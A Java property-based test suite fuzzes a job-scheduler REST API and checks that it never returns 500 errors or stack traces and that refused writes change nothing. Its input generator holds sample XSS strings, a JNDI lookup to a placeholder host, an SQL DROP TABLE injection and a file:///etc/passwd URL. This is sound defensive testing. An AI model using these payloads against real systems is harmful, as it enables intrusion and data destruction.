package io.jobdeck.jobs.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.jobdeck.security.ApiAccessMatrixTest;
import io.jobdeck.testing.ApiClient;
import io.jobdeck.testing.ApiClient.Answer;
import io.jobdeck.testing.JobdeckApp;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.jspecify.annotations.Nullable;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.json.JsonMapper;

/**
 * Whatever is sent to the job and calendar endpoints that write (malformed JSON, values of the wrong type, huge,
 * unicode, markup and control characters in any field, a wrong If-Match), the API never answers 500 and never shows
 * a stack trace: a refusal is a problem detail, and leaves the store exactly as it was.
 */
class ApiInputPropertiesTest {

    private static @Nullable JobdeckApp app;
    private static ApiClient api = new ApiClient(0);

    static final String JOB = "{\"group\": \"props\", \"name\": \"fixed\", \"description\": \"d\", \"type\": \"HTTP\","
            + " \"data\": {\"http.url\": \"http://127.0.0.1:9/x\"},"
            + " \"triggers\": [{\"kind\": \"CRON\", \"cron\": \"0 0 3 * * ?\", \"zone\": \"UTC\"}],"
            + " \"retry\": {\"maxAttempts\": 3, \"backoff\": \"EXPONENTIAL\", \"delay\": \"PT10S\","
            + " \"maxDelay\": \"PT5M\", \"jitter\": 10, \"failures\": [\"FAILED\"], \"errorContains\": \"503\"}}";
    static final String CALENDAR =
            "{\"name\": \"fixed\", \"kind\": \"HOLIDAYS\", \"zone\": \"UTC\"," + " \"dates\": [\"2030-01-01\"]}";

    @BeforeContainer
    static void start() {
        app = JobdeckApp.start(
                JobdeckApp.newDataDir(),
                Map.of(
                        "jobdeck.scheduler.auto-start",
                        false,
                        "spring.quartz.scheduler-name",
                        "jobdeck-api-input-properties-test"));
        api = new ApiClient(app.port()).awaitReady();
        assertThat(api.call("POST", "/api/v1/jobs", "admin", JOB).status()).isEqualTo(201);
        assertThat(api.call("POST", "/api/v1/calendars", "admin", CALENDAR).status())
                .isEqualTo(201);
    }

    @AfterContainer
    static void stop() {
        if (app != null) {
            app.close();
        }
    }

    /** One write: method, path, body (as sent, maybe not JSON at all), and whether If-Match is the current ETag. */
    record Request(String method, String path, String body, boolean currentVersion) {}

    @Property(tries = 120)
    void job_writes_never_answer_500_and_a_refusal_changes_nothing(@ForAll("jobWrites") Request request) {
        check(request);
    }

    @Property(tries = 80)
    void calendar_writes_never_answer_500_and_a_refusal_changes_nothing(@ForAll("calendarWrites") Request request) {
        check(request);
    }

    private static void check(Request request) {
        String before = store();
        String[] headers = request.method().equals("PUT")
                ? new String[] {"If-Match", request.currentVersion() ? etag(request.path()) : "\"<stale>\""}
                : new String[0];
        Answer answer = api.call(request.method(), request.path(), "admin", request.body(), headers);

        assertThat(answer.status()).as(answer.body()).isLessThan(500);
        assertThat(answer.body()).doesNotContain("Exception").doesNotContain("\tat ");
        if (answer.status() >= 400) {
            assertThat(answer.isProblem()).as(answer.body()).isTrue();
            assertThat(store()).as("a refused write changes nothing").isEqualTo(before);
        } else if (request.method().equals("POST")) {
            // Accepted: what it made goes, so that the next try starts from the same store.
            assertThat(answer.status()).isEqualTo(201);
            assertThat(api.call("DELETE", answer.header("Location").replaceFirst("^https?://[^/]+", ""), "admin", null)
                            .status())
                    .isEqualTo(204);
        }
    }

    /** Quartz's tables the writes could touch, row by row (binary columns as hex). */
    static final List<String> TABLES = List.of(
            "QRTZ_JOB_DETAILS",
            "QRTZ_TRIGGERS",
            "QRTZ_CRON_TRIGGERS",
            "QRTZ_SIMPLE_TRIGGERS",
            "QRTZ_SIMPROP_TRIGGERS",
            "QRTZ_CALENDARS",
            "QRTZ_PAUSED_TRIGGER_GRPS");

    /** Everything the writes could touch, read from the job store itself. */
    private static String store() {
        JdbcClient jdbc = Objects.requireNonNull(app).bean(JdbcClient.class);
        List<String> rows = new ArrayList<>();
        for (String table : TABLES) {
            jdbc.sql("SELECT * FROM " + table).query().listOfRows().forEach(row -> {
                StringBuilder line = new StringBuilder(table);
                row.forEach((column, value) -> line.append(' ')
                        .append(column)
                        .append('=')
                        .append(value instanceof byte[] bytes ? HexFormat.of().formatHex(bytes) : value));
                rows.add(line.toString());
            });
        }
        Collections.sort(rows);
        return String.join("\n", rows);
    }

    /** The version of what {@code path} updates, as its read gives it. */
    private static String etag(String path) {
        return api.get(path.startsWith("/api/v1/jobs/") ? path + "/definition" : path, "admin")
                .header("ETag");
    }

    @Provide
    Arbitrary<Request> jobWrites() {
        Arbitrary<String> body = Arbitraries.oneOf(
                mutated(
                        JOB,
                        List.of(
                                "group",
                                "name",
                                "description",
                                "type",
                                "data",
                                "data.http.url",
                                "data.http.method",
                                "data.http.headers",
                                "data.http.timeout",
                                "data.extra",
                                "triggers",
                                "triggers.0",
                                "triggers.0.kind",
                                "triggers.0.cron",
                                "triggers.0.every",
                                "triggers.0.times",
                                "triggers.0.at",
                                "triggers.0.zone",
                                "triggers.0.start",
                                "triggers.0.end",
                                "triggers.0.priority",
                                "triggers.0.misfire",
                                "triggers.0.calendar",
                                "retry",
                                "retry.maxAttempts",
                                "retry.backoff",
                                "retry.delay",
                                "retry.maxDelay",
                                "retry.jitter",
                                "retry.failures",
                                "retry.failures.0",
                                "retry.errorContains")),
                malformed(JOB));
        Arbitrary<String[]> target = Arbitraries.of(
                new String[] {"POST", "/api/v1/jobs"},
                new String[] {"PUT", "/api/v1/jobs/props/fixed"},
                new String[] {"POST", "/api/v1/jobs/props/fixed/copy"});
        return Combinators.combine(target, body, Arbitraries.of(true, false))
                .as((t, b, current) -> new Request(t[0], t[1], b, current));
    }

    @Provide
    Arbitrary<Request> calendarWrites() {
        Arbitrary<String> body = Arbitraries.oneOf(
                mutated(
                        CALENDAR,
                        List.of(
                                "name",
                                "description",
                                "kind",
                                "zone",
                                "dates",
                                "dates.0",
                                "from",
                                "to",
                                "onlyWithin",
                                "cron")),
                malformed(CALENDAR));
        Arbitrary<String[]> target = Arbitraries.of(
                new String[] {"POST", "/api/v1/calendars"}, new String[] {"PUT", "/api/v1/calendars/fixed"});
        return Combinators.combine(target, body, Arbitraries.of(true, false))
                .as((t, b, current) -> new Request(t[0], t[1], b, current));
    }

    /** A definitions document that imports one job into its own group ("imp"), so that its import can be undone. */
    static final String DOCUMENT = """
            version: 1
            jobs:
              - group: imp
                name: one
                description: d
                type: HTTP
                properties: {http.url: "http://127.0.0.1:9/x"}
                triggers: [{cron: "0 0 3 * * ?", zone: UTC, priority: 5}]
            """;

    /**
     * Anything as a definitions document, imported or only checked, merged or replacing: never a 500, a refusal is a
     * problem detail and leaves the store as it was (all or nothing), and an accepted import is undone for the next.
     */
    @Property(tries = 80)
    void imports_never_answer_500_and_a_refused_document_changes_nothing(
            @ForAll("documents") String document, @ForAll boolean dryRun, @ForAll("modes") String mode) {
        String before = store();
        Answer answer = api.call(
                "POST",
                "/api/v1/definitions?dryRun=" + dryRun + "&mode="
                        + java.net.URLEncoder.encode(mode, java.nio.charset.StandardCharsets.UTF_8),
                "admin",
                document);

        assertThat(answer.status()).as(answer.body()).isLessThan(500);
        assertThat(answer.body()).doesNotContain("Exception").doesNotContain("\tat ");
        if (answer.status() >= 400 || dryRun) {
            assertThat(answer.status() < 400 || answer.isProblem())
                    .as(answer.body())
                    .isTrue();
            assertThat(store())
                    .as("a refused or dry-run import changes nothing")
                    .isEqualTo(before);
        } else {
            org.quartz.Scheduler scheduler = Objects.requireNonNull(app).bean(org.quartz.Scheduler.class);
            try {
                scheduler.deleteJobs(
                        List.copyOf(scheduler.getJobKeys(org.quartz.impl.matchers.GroupMatcher.jobGroupEquals("imp"))));
            } catch (org.quartz.SchedulerException e) {
                throw new AssertionError(e);
            }
        }
    }

    /**
     * Every endpoint of the API (as the access matrix lists them), its path variables and query parameters given
     * malformed, huge, unicode and markup values, with or without a body: never a 500 or a stack trace, and every
     * refusal a problem detail.
     */
    @Property(tries = 150)
    void every_endpoint_answers_anything_in_its_path_and_query_without_a_500(
            @ForAll("endpoints") String endpoint,
            @ForAll("segments") List<String> segments,
            @ForAll("queries") Map<String, String> query,
            @ForAll boolean withBody) {
        ApiAccessMatrixTest.Call call = ApiAccessMatrixTest.CALLS.get(endpoint);
        String pattern = endpoint.substring(endpoint.indexOf(' ') + 1);
        java.util.Iterator<String> values = segments.iterator();
        StringBuilder path = new StringBuilder(java.util.regex.Pattern.compile("\\{[^}]+}")
                .matcher(pattern)
                .replaceAll(m -> java.util.regex.Matcher.quoteReplacement(
                        org.springframework.web.util.UriUtils.encodePathSegment(
                                values.hasNext() ? values.next() : "x", java.nio.charset.StandardCharsets.UTF_8))));
        String separator = "?";
        for (Map.Entry<String, String> q : query.entrySet()) {
            path.append(separator)
                    .append(q.getKey())
                    .append('=')
                    .append(java.net.URLEncoder.encode(q.getValue(), java.nio.charset.StandardCharsets.UTF_8));
            separator = "&";
        }
        Answer answer =
                api.call(call.method(), path.toString(), "admin", withBody ? call.body() : null, call.headers());

        assertThat(answer.status()).as(path + ": " + answer.body()).isLessThan(500);
        assertThat(answer.body()).doesNotContain("Exception").doesNotContain("\tat ");
        if (answer.status() >= 400) {
            assertThat(answer.isProblem()).as(path + ": " + answer.body()).isTrue();
        }
    }

    @Provide
    Arbitrary<String> endpoints() {
        // Not the scheduler's start: a running scheduler would fire the fixed job while the other properties compare.
        return Arbitraries.of(ApiAccessMatrixTest.CALLS.keySet().stream()
                .filter(e -> !e.endsWith("/scheduler/start"))
                .sorted()
                .toList());
    }

    /**
     * Path values the app gets to see: Tomcat itself refuses an encoded slash, backslash or control character in a path,
     * and a request line over 8 KB, before any filter runs (a 400 with its own bare HTML page: a known gap), so those
     * go in bodies here instead.
     */
    @Provide
    Arbitrary<List<String>> segments() {
        return shortTexts()
                .filter(t -> !t.isEmpty() && t.chars().noneMatch(c -> c < 0x20 || c == 0x7F || c == '/' || c == '\\'))
                .list()
                .ofMinSize(3)
                .ofMaxSize(3);
    }

    @Provide
    Arbitrary<Map<String, String>> queries() {
        return Arbitraries.maps(
                        Arbitraries.of(
                                "offset", "limit", "text", "group", "type", "state", "order", "mode", "dryRun", "page",
                                "size", "from", "to", "actor", "action", "outcome", "job"),
                        // Short: a request line over Tomcat's 8 KB is refused by Tomcat itself (see segments()).
                        Arbitraries.oneOf(shortTexts(), Arbitraries.of("-1", "0", "99999999999", "1e9", "NaN")))
                .ofMaxSize(3);
    }

    @Provide
    Arbitrary<String> modes() {
        return Arbitraries.oneOf(Arbitraries.of("merge", "replace"), shortTexts());
    }

    /** The document with one of its values replaced (quoted or not), cut short, or any text at all. */
    @Provide
    Arbitrary<String> documents() {
        Arbitrary<String> slot = Arbitraries.of(
                "version: 1",
                "imp",
                "one",
                "description: d",
                "HTTP",
                "http://127.0.0.1:9/x",
                "0 0 3 * * ?",
                "UTC",
                "priority: 5");
        Arbitrary<String> replaced = Combinators.combine(slot, texts(), Arbitraries.of(true, false))
                .as((s, t, quoted) -> DOCUMENT.replace(
                        s, quoted ? "\"" + t.replace("\\", "\\\\").replace("\"", "\\\"") + "\"" : t));
        return Arbitraries.oneOf(
                replaced,
                Arbitraries.integers().between(0, DOCUMENT.length() - 1).map(n -> DOCUMENT.substring(0, n)),
                texts(),
                Arbitraries.just(DOCUMENT));
    }

    /** A field of the body given another value. */
    record Change(String field, @Nullable Object value) {}

    /** The valid body with one or two fields given another value (of any JSON type). */
    private static Arbitrary<String> mutated(String valid, List<String> fields) {
        Arbitrary<Change> change =
                Combinators.combine(Arbitraries.of(fields), values()).as(Change::new);
        return change.list().ofMinSize(1).ofMaxSize(2).map(changes -> {
            @SuppressWarnings("unchecked")
            Map<String, Object> body = JsonMapper.shared().readValue(valid, LinkedHashMap.class);
            changes.forEach(c -> set(body, c.field(), c.value()));
            return JsonMapper.shared().writeValueAsString(body);
        });
    }

    /** The valid body cut short, or text that is not JSON at all. */
    private static Arbitrary<String> malformed(String valid) {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0, valid.length() - 1).map(n -> valid.substring(0, n)),
                texts(),
                Arbitraries.of("[]", "null", "42", "\"text\"", "{\"a\": }", "{}", "{\"type\": null}"));
    }

    private static Arbitrary<@Nullable Object> values() {
        return Arbitraries.oneOf(
                texts().map(t -> t),
                Arbitraries.integers().map(i -> i),
                Arbitraries.longs().map(l -> l),
                Arbitraries.doubles().map(d -> d),
                Arbitraries.of(true, false).map(b -> b),
                Arbitraries.just(null),
                shortTexts().list().ofMaxSize(30).map(l -> l),
                shortTexts().map(t -> Map.of(t, t)),
                Arbitraries.just(Collections.nCopies(25, Map.of("kind", "CRON", "cron", "0 0 3 * * ?"))));
    }

    /** Strings people and programs send: unicode, markup, control characters, huge, or almost valid. */
    private static Arbitrary<String> texts() {
        return Arbitraries.oneOf(
                shortTexts(),
                Arbitraries.strings().alpha().ofMinLength(300).ofMaxLength(2_000),
                Arbitraries.just("x".repeat(200_000)));
    }

    private static Arbitrary<String> shortTexts() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(10),
                Arbitraries.of(
                        "<script>alert(1)</script>",
                        "<img src=x onerror=alert(1)>",
                        "${jndi:ldap://example.invalid/a}",
                        "'; DROP TABLE QRTZ_JOB_DETAILS; --",
                        "Ωμέγα 日本語 עברית 🎉",
                        "\u202Eevil",
                        "",
                        " ",
                        "0 0 3 * * ?",
                        "* * * * * ? *",
                        "PT0S",
                        "PT1S",
                        "P9999999D",
                        "-PT5M",
                        "2026-12-24T18:00",
                        "2026-02-30",
                        "24:00",
                        "Europe/Berlin",
                        "Mars/Olympus",
                        "HTTP",
                        "SHELL",
                        "JAVA",
                        "CRON",
                        "INTERVAL",
                        "ONCE",
                        "HOLIDAYS",
                        "DAILY_WINDOW",
                        "fixed",
                        "http://127.0.0.1:9/y",
                        "file:///etc/passwd",
                        "******"));
    }

    /** Sets {@code path} (dot-separated; a number indexes a list; the rest names a map key) to {@code value}. */
    @SuppressWarnings("unchecked")
    private static void set(Map<String, Object> body, String path, @Nullable Object value) {
        String[] parts = path.startsWith("data.") ? new String[] {"data", path.substring(5)} : path.split("\\.");
        Object at = body;
        for (int i = 0; i < parts.length - 1; i++) {
            Object next = at instanceof Map<?, ?> map
                    ? map.get(parts[i])
                    : at instanceof List<?> list && Integer.parseInt(parts[i]) < list.size()
                            ? list.get(Integer.parseInt(parts[i]))
                            : null;
            if (!(next instanceof Map<?, ?>) && !(next instanceof List<?>)) {
                return; // an earlier change replaced what held this field
            }
            at = next;
        }
        String last = parts[parts.length - 1];
        if (!(at instanceof Map<?, ?>) && !(at instanceof List<?>) || isImmutable(at)) {
            return; // an earlier change put a value there that is not to be changed (a fixed map or list)
        }
        if (at instanceof Map<?, ?> map) {
            ((Map<String, @Nullable Object>) map).put(last, value);
        } else if (at instanceof List<?> list) {
            List<@Nullable Object> copy = new ArrayList<>(list);
            copy.set(0, value);
            ((List<@Nullable Object>) list).clear();
            ((List<@Nullable Object>) list).addAll(copy);
        }
    }

    /** Whether a value put in by an earlier change is one of the generators' fixed maps or lists. */
    private static boolean isImmutable(Object container) {
        String type = container.getClass().getName();
        return type.startsWith("java.util.ImmutableCollections") || type.startsWith("java.util.Collections$");
    }
}
